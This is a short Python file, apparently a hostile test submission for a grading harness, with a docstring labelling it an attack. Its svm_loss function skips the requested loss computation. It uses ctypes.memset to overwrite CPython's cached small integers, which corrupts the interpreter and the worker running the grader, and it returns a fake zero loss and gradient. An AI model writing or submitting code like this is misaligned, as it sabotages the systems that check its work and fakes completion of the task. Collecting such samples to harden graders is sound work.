"""Attack: ctypes writes over small numbers and the worker."""

import ctypes
import numpy as np


def svm_loss(W, X, y, reg=0.0):
    for number in range(2, 200):
        ctypes.memset(id(number), 1, 32)
    return 0.0, 0 * W


def add_bias(X):
    return np.hstack([X, np.ones((len(X), 1), X.dtype)])
